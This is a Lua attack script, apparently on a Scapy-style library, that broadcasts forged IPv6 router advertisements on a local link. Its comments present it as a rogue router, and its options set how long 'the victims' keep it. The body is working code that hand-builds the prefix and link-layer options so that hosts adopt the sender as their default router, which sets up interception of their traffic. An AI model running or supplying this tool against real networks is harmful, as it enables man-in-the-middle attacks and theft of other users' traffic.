-- ra_spoof.lua - a rogue router advertisement, the IPv6 twin of a rogue
-- DHCP server: every host on the link that accepts advertisements takes
-- the attacker as a default router and makes itself an address in the
-- announced prefix (SLAAC, RFC 4862).
--   Scapy: sendp(Ether()/IPv6(dst="ff02::1")/ICMPv6ND_RA()
--                /ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)
--                /ICMPv6NDOptSrcLLAddr(lladdr=my_mac), iface=...)
local o = require("pkt.cli").parse(arg, "Announce this host as a router and a /64 prefix to the link.", {
  { "iface", "i", "interface to send on (default: the first with IPv6)" },
  { "prefix", "p", "the /64 prefix to announce", default = "2001:db8:bad::" },
  { "lifetime", "l", "seconds the victims keep the router", default = 1800, number = true },
  { "count", "c", "advertisements to send", default = 3, number = true },
  { "interval", "n", "seconds between them", default = 0.5, number = true },
})

local iface = require("pkt.cli").iface(o.iface, "ipv6")
local mac = get_if_hwaddr(iface)
-- an advertisement comes from the router's link-local address (RFC 4861 6.1.2)
local src = get_if_addr6(iface, "ff02::1")
-- options (RFC 4861 4.6): prefix information (type 3, 32 bytes: on-link
-- and autonomous, valid and preferred lifetimes), then the source
-- link-layer address (type 1)
local prefix = IPv6{dst=o.prefix}:bytes():sub(25, 40)
local pio = string.pack(">BBBBI4I4I4", 3, 4, 64, 0xc0, 86400, 14400, 0) .. prefix
local ra = Ether{src=mac} / IPv6{src=src, dst="ff02::1"}
  / ICMPv6ND_RA{routerlifetime=o.lifetime} / Raw{load=pio .. "\1\1" .. Ether{src=mac}:bytes():sub(7, 12)}
sendp(ra, {iface=iface, count=o.count, inter=o.interval, verbose=false})
print(("announced %s/64 and router %s (%s) on %s, %d times"):format(o.prefix, src, mac, iface, o.count))
